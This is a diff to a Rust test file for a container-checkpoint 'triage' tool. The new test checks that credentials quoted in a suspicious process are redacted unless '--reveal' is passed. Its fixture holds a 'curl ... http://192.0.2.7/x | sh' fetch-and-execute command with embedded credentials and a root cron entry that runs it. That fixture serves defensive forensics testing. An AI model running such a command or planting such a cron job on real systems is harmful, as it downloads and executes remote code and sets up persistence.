@@ -1,6 +1,6 @@
 //! `triage`: bundled and synthetic checkpoints, filters, forms, exit status.
 
-use ckpt_synth::{Archive, Container, Dump, File, Task, Vma, stories};
+use ckpt_synth::{Archive, Container, Dump, File, Member, Task, Vma, stories};
 use tempfile::TempDir;
 
 use crate::world::{archives, checkpoints, fixtures, run_in};
@@ -48,6 +48,35 @@ fn bundled_checkpoints() {
     ] {
         let ran = run_in(&fixtures(), &["triage", file]);
         insta::assert_snapshot!(format!("real-{name}"), ran.transcript());
+    }
+}
+
+#[test]
+fn what_is_quoted_is_redacted_unless_asked() {
+    let mut dump = Dump::new();
+    let command = "curl -u joe:hunter2-Pa55 http://192.0.2.7/x | sh";
+    dump.container(Container::new("shop").command(&["sleep"]))
+        .task(Task::new(1, 0).exe("/usr/bin/dash").comm("sh").argv(&["sh", "-c", command]));
+    let mut diff = Archive::new();
+    let line = format!("* * * * * root PGPASSWORD=hunter2-Pa55 psql; {command}\n");
+    diff.push(Member::file("etc/cron.d/update", line));
+    let mut archive = Archive::podman(&dump);
+    archive.without("rootfs-diff.tar").member("rootfs-diff.tar", diff.tar());
+    let folder = folder(&archive);
+    for args in [
+        &["triage", "checkpoint.tar"][..],
+        &["triage", "checkpoint.tar", "--explain"],
+        &["triage", "checkpoint.tar", "--format", "json"],
+        &["triage", "checkpoint.tar", "--format", "jsonl"],
+        &["verify", "checkpoint.tar"],
+        &["verify", "checkpoint.tar", "--format", "json"],
+    ] {
+        let ran = run_in(folder.path(), args);
+        assert!(!ran.stdout.contains("hunter2"), "{}", ran.transcript());
+        let whole = run_in(folder.path(), &[args, &["--reveal"]].concat());
+        let quoted = whole.stdout.contains("joe:hunter2-Pa55");
+        assert_eq!(quoted, ran.stdout.contains("joe:[redacted: "), "{}", whole.transcript());
+        assert!(quoted || args.len() < 3, "{}", whole.transcript());
     }
 }
 
